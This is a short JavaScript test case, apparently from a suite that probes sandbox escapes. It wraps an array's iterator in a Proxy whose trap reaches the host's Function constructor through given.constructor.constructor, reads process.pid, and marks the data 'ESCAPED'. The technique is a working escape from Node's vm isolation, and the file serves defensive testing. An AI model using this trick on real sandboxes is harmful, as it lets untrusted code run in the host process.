// Returns an array whose iterator looks at how the host iterates.
// Class: proxies and traps
// Win: the id holds the process id.
// Control: vm
function postSubmit(options) {
  if (!options.settings.flow.attack) return options.responseData;
  const list = [...options.responseData];
  const iterate = new Proxy(Array.prototype[Symbol.iterator], {
    apply(target, self, given) {
      const proof = given.constructor.constructor('return typeof process === "object" ? process.pid : ""')();
      if (proof !== '') list[0].id = `ESCAPED:${proof}`;
      return Reflect.apply(target, self, []);
    },
  });
  Object.defineProperty(list, Symbol.iterator, { value: iterate });
  return list;
}
